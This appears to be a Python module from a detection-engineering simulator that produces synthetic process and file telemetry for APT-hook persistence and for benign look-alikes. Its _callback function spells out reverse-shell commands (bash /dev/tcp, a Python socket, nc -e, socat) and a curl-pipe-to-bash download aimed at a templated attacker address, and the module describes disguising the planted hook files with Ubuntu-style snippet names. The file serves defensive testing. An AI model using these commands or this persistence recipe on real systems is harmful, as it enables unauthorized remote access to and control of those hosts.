@@ -1,0 +1,317 @@
+"""Package-manager hook persistence (T1546.016): a root operator drops a snippet into
+/etc/apt/apt.conf.d whose Invoke hook opens a shell back to them, and every package-list
+refresh or dpkg run afterwards starts it again.
+
+Per instance: the host and the administrator account used to get in, how the snippet is
+written (tee, a shell redirection, a copy from a staging file, a Python one-liner), the
+snippet's name (an imitation of Ubuntu's numbered snippets), the hook directive
+(`APT::Update::Pre-Invoke`, `APT::Update::Post-Invoke`, `DPkg::Post-Invoke`), the
+callback (bash /dev/tcp, a Python socket, `nc -e`, socat, or a download piped into a
+shell), the address and port, and which package runs fire it.
+
+Look-alikes: Ansible, Ubuntu Pro's timer and administrators adding repositories write
+APT configuration; a cache-proxy probe hook and DPkg::Post-Invoke clean-up hooks start
+shells (and netcat, curl) under apt; administrators test connectivity with /dev/tcp,
+netcat and socat.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+
+from pytest_ctirealm.telemetry.campaign import Instance
+from pytest_ctirealm.telemetry.context import SimContext
+from pytest_ctirealm.telemetry.environment import LINUX_HOSTS
+from pytest_ctirealm.telemetry.linux import Process
+from pytest_ctirealm.telemetry.scenarios.base import (
+    Stages,
+    Timeline,
+    incident_start,
+    lookalikes,
+    merge,
+    scenario,
+)
+from pytest_ctirealm.telemetry.scenarios.linux.common import BASH, SH, root_session
+
+CAMPAIGN = "apt_hook_persistence"
+CONF_DIR = "/etc/apt/apt.conf.d"
+_SNIPPET_NUMBERS = ("00", "01", "02", "05", "10", "15", "20", "30", "60", "80", "90", "99")
+_SNIPPET_NAMES = (
+    "cache-refresh",
+    "apt-metrics",
+    "periodic-sync",
+    "update-stamp",
+    "mirror-check",
+    "index-verify",
+    "security-notify",
+    "pkg-stats",
+    "listchanges-extra",
+    "esm-refresh",
+    "motd-news",
+    "archive-timer",
+)
+_DIRECTIVES = ("APT::Update::Pre-Invoke", "APT::Update::Post-Invoke", "DPkg::Post-Invoke")
+
+
+def _callback(instance: Instance) -> str:
+    """The command the hook runs: a shell back to the operator, in one of the forms public
+    reporting describes."""
+    ip = instance.attacker_ip("callback_ip")
+    port = instance.port("callback_port")
+    forms = {
+        "dev_tcp": f'bash -c "bash -i >& /dev/tcp/{ip}/{port} 0>&1"',
+        "python": (
+            "python3 -c 'import socket,os,pty;s=socket.socket();"
+            f's.connect(("{ip}",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];'
+            'pty.spawn("/bin/bash")\''
+        ),
+        "netcat": f"nc -e /bin/bash {ip} {port}",
+        "socat": f"socat exec:'bash -li',pty,stderr,setsid tcp:{ip}:{port}",
+        "download": f"curl -fsS http://{ip}:{port}/{instance.hex('script', 6)} | bash",
+    }
+    return forms[instance.pick("callback", sorted(forms))]
+
+
+def _write_snippet(t: Timeline, instance: Instance, root: Process, path: str) -> None:
+    """The operator writes the snippet from a root shell, one of four ways."""
+    how = instance.values.get("writer") or instance.pick(
+        "writer", ("tee", "redirect", "copy", "python")
+    )
+    if how == "tee":
+        writer = t.run("hook_writer", root, "/usr/bin/tee", f"tee {path}", after=(20, 90))
+    elif how == "redirect":
+        writer = t.run("hook_writer", root, BASH, f"bash -c cat > {path} << 'EOF'", after=(30, 90))
+    elif how == "copy":
+        staging = f"/dev/shm/.{instance.hex('staging', 4)}"
+        writer = t.run("hook_writer", root, "/usr/bin/cp", f"cp {staging} {path}", after=(30, 90))
+    else:
+        writer = t.run(
+            "hook_writer",
+            root,
+            "/usr/bin/python3.10",
+            f"python3 -c open('{path}','w').write(__import__('sys').stdin.read())",
+            after=(30, 90),
+        )
+    t.file("hook_written", writer, "FileCreated", path, size=instance.between(90, 240))
+
+
+def _package_run(t: Timeline, directive: str, stage: str) -> Process:
+    """A package-manager run of the kind *directive* hooks into; returns the process that
+    starts the hook's shell."""
+    systemd = t.daemon("systemd")
+    if directive.startswith("APT::Update"):
+        daily = t.run(
+            stage,
+            systemd,
+            "/usr/lib/apt/apt.systemd.daily",
+            "/bin/sh /usr/lib/apt/apt.systemd.daily update",
+            "root",
+        )
+        return t.run(stage, daily, "/usr/bin/apt-get", "apt-get -qq -y update", "root")
+    return t.run(
+        stage, systemd, "/usr/bin/python3", "/usr/bin/python3 /usr/bin/unattended-upgrade", "root"
+    )
+
+
+@scenario(
+    CAMPAIGN,
+    "linux",
+    ("access", "hook_writer", "hook_written", "apt_timer", "hook_executed", "callback"),
+)
+def apt_hook_persistence(ctx: SimContext) -> Stages:
+    """Plant the hook, then let two to four package runs fire it."""
+    instance = Instance(ctx, CAMPAIGN)
+    host = instance.linux_host("host")
+    admin = instance.pick("account", host.admin_users)
+    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "apt", (0, 9)))
+    root = root_session(t, admin)
+    # A snippet, and a spare under another name in case the first is found.
+    names = [instance.name_like(f"snippet_{n}", _SNIPPET_NUMBERS, _SNIPPET_NAMES) for n in (1, 2)]
+    if names[0] == names[1]:
+        names.pop()
+    for name in names:
+        _write_snippet(t, instance, root, f"{CONF_DIR}/{name}")
+    directive = instance.pick("directive", _DIRECTIVES)
+    callback = _callback(instance)
+    for _ in range(instance.between(2, 4)):
+        t.wait(2 * 3600, 7 * 3600)
+        if t.now >= ctx.end:
+            break
+        manager = _package_run(t, directive, "apt_timer")
+        hook = t.run("hook_executed", manager, SH, f"sh -c nohup {callback} > /dev/null 2>&1 &")
+        program = callback.split()[0]
+        path = {"bash": BASH, "python3": "/usr/bin/python3.10", "nc": "/usr/bin/nc.traditional"}
+        t.run("callback", hook, path.get(program, f"/usr/bin/{program}"), callback.split(" | ")[0])
+    return t.stages
+
+
+# -- look-alikes ---------------------------------------------------------------------------
+
+_ANSIBLE_SNIPPETS = (
+    "95proxy",
+    "99contoso-retries",
+    "90assume-yes",
+    "52unattended-upgrades-local",
+    "10no-recommends",
+    "99phased-updates",
+)
+_REPOSITORIES = ("docker", "azure-cli", "microsoft-prod", "nodesource", "pgdg", "hashicorp")
+_POST_INVOKE = (
+    "sh -c rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true",
+    "sh -c if [ -d /var/lib/update-notifier ]; then touch /var/lib/update-notifier/dpkg-run-stamp; fi; /usr/lib/update-notifier/update-motd-updates-available 2>/dev/null || true",
+    "sh -c /usr/bin/test -e /usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service && /usr/bin/test -S /var/run/dbus/system_bus_socket && /usr/bin/gdbus call --system --dest org.freedesktop.PackageKit --object-path /org/freedesktop/PackageKit --timeout 4 --method org.freedesktop.PackageKit.StateHasChanged cache-update > /dev/null; /bin/echo > /dev/null",
+)
+_PACKAGES = (
+    "htop",
+    "jq",
+    "docker-ce",
+    "azure-cli",
+    "postgresql-client-14",
+    "nginx",
+    "tmux",
+    "unzip",
+)
+_CONNECTIVITY = (
+    ("bash -c echo > /dev/tcp/10.1.3.4/5432 && echo open", BASH),
+    ("timeout 3 bash -c </dev/tcp/azure.archive.ubuntu.com/443", "/usr/bin/timeout"),
+    ("nc -zv 10.1.3.4 5432", "/usr/bin/nc.openbsd"),
+    ("nc -zvw3 10.1.1.4 443", "/usr/bin/nc.openbsd"),
+    ("nc -zv packages.microsoft.com 443", "/usr/bin/nc.openbsd"),
+    ("bash -c cat < /dev/null > /dev/tcp/10.1.2.4/8080", BASH),
+    ("socat - TCP:10.1.2.4:8080,connect-timeout=3", "/usr/bin/socat"),
+    (
+        "python3 -c import socket;socket.create_connection(('10.1.3.4',5432),3)",
+        "/usr/bin/python3.10",
+    ),
+)
+
+
+def _office_times(ctx: SimContext, t: Timeline, low: int, high: int) -> list[dt.datetime]:
+    """Between *low* and *high* office-hour instants over the window, in order."""
+    count = t.rng.randint(low, high)
+    return sorted(ctx.office_time(t.rng, t.rng.randrange(ctx.days)) for _ in range(count))
+
+
+def _family(ctx: SimContext, family: str, host_name: str) -> Timeline:
+    host = next(h for h in LINUX_HOSTS if h.name == host_name)
+    return Timeline(ctx, f"lookalike/{CAMPAIGN}/{family}/{host.name}", host, ctx.start)
+
+
+@lookalikes(
+    CAMPAIGN,
+    (
+        "ansible_apt_config",
+        "repository_setup",
+        "ubuntu_pro_refresh",
+        "update_hooks",
+        "dpkg_post_invoke",
+        "connectivity_tests",
+    ),
+)
+def apt_hook_lookalikes(ctx: SimContext) -> Stages:
+    timelines = []
+    for host in LINUX_HOSTS:
+        # Ansible pushing APT settings (python3 through sudo).
+        t = _family(ctx, "ansible_apt_config", host.name)
+        for moment in _office_times(ctx, t, 0, 2):
+            t.at(moment)
+            root = root_session(t, "azureuser", stage="ansible_apt_config")
+            writer = t.run(
+                "ansible_apt_config",
+                root,
+                "/usr/bin/python3.10",
+                f"/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-{t.rng.randrange(10**9, 10**10)}/AnsiballZ_copy.py",
+            )
+            name = t.rng.choice(_ANSIBLE_SNIPPETS)
+            t.file("ansible_apt_config", writer, "FileCreated", f"{CONF_DIR}/{name}")
+        timelines.append(t)
+        # An administrator adds a vendor repository, then refreshes (the proxy probe runs).
+        t = _family(ctx, "repository_setup", host.name)
+        for moment in _office_times(ctx, t, 0, 2):
+            t.at(moment)
+            root = root_session(t, t.rng.choice(host.admin_users), stage="repository_setup")
+            repo = t.rng.choice(_REPOSITORIES)
+            gpg = t.run(
+                "repository_setup",
+                root,
+                "/usr/bin/gpg",
+                f"gpg --dearmor -o /etc/apt/keyrings/{repo}.gpg",
+            )
+            t.file("repository_setup", gpg, "FileCreated", f"/etc/apt/keyrings/{repo}.gpg")
+            tee = t.run(
+                "repository_setup", root, "/usr/bin/tee", f"tee /etc/apt/sources.list.d/{repo}.list"
+            )
+            t.file("repository_setup", tee, "FileCreated", f"/etc/apt/sources.list.d/{repo}.list")
+            apt = t.run("repository_setup", root, "/usr/bin/apt", "apt update", after=(5, 30))
+            t.run(
+                "repository_setup",
+                apt,
+                SH,
+                "sh -c /usr/bin/curl -fsS --max-time 2 http://10.1.0.10:3142/acng-report.html > /dev/null || true",
+            )
+        timelines.append(t)
+        # Ubuntu Pro's timer refreshing its APT proxy and auth snippets.
+        t = _family(ctx, "ubuntu_pro_refresh", host.name)
+        for day in ctx.day_range():
+            t.at(
+                ctx.day_start(day)
+                + dt.timedelta(hours=t.rng.randrange(24), minutes=t.rng.randrange(60))
+            )
+            timer = t.run(
+                "ubuntu_pro_refresh",
+                t.daemon("systemd"),
+                "/usr/bin/python3.10",
+                "/usr/bin/python3 /usr/lib/ubuntu-advantage/timer.py",
+                "root",
+            )
+            for path in (
+                "/etc/apt/apt.conf.d/90ubuntu-advantage-aptproxy",
+                "/etc/apt/auth.conf.d/90ubuntu-advantage",
+            ):
+                if t.rng.random() < 0.7:
+                    t.file("ubuntu_pro_refresh", timer, "FileModified", path)
+        timelines.append(t)
+        # The platform team's cache-proxy probe hook, rolled out to some hosts, on the
+        # extra timer runs.
+        t = _family(ctx, "update_hooks", host.name)
+        for day in ctx.day_range() if t.rng.random() < 0.6 else ():
+            t.at(
+                ctx.day_start(day)
+                + dt.timedelta(hours=t.rng.choice((11, 17, 23)), minutes=t.rng.randrange(60))
+            )
+            manager = _package_run(t, "APT::Update::Post-Invoke", "update_hooks")
+            probe = t.run(
+                "update_hooks",
+                manager,
+                SH,
+                "sh -c /usr/local/sbin/apt-proxy-detect.sh >/dev/null 2>&1 || true",
+            )
+            t.run("update_hooks", probe, "/usr/bin/nc.openbsd", "nc -z -w 2 10.1.0.10 3142")
+        timelines.append(t)
+        # Packages installed by hand: dpkg's Post-Invoke hooks run after each.
+        t = _family(ctx, "dpkg_post_invoke", host.name)
+        for moment in _office_times(ctx, t, 0, 2):
+            t.at(moment)
+            root = root_session(t, t.rng.choice(host.admin_users), stage="dpkg_post_invoke")
+            package = t.rng.choice(_PACKAGES)
+            apt = t.run(
+                "dpkg_post_invoke", root, "/usr/bin/apt-get", f"apt-get install -y {package}"
+            )
+            t.run(
+                "dpkg_post_invoke",
+                apt,
+                "/usr/bin/dpkg",
+                f"/usr/bin/dpkg --status-fd 35 --unpack --auto-deconfigure /var/cache/apt/archives/{package}.deb",
+            )
+            for hook in t.rng.sample(_POST_INVOKE, 2):
+                t.run("dpkg_post_invoke", apt, SH, hook, after=(2, 9))
+        timelines.append(t)
+        # Administrators checking that a service answers.
+        t = _family(ctx, "connectivity_tests", host.name)
+        for moment in _office_times(ctx, t, 0, 3):
+            t.at(moment)
+            root = root_session(t, t.rng.choice(host.admin_users), stage="connectivity_tests")
+            command, image = t.rng.choice(_CONNECTIVITY)
+            t.run("connectivity_tests", root, image, command)
+        timelines.append(t)
+    return merge(*timelines)
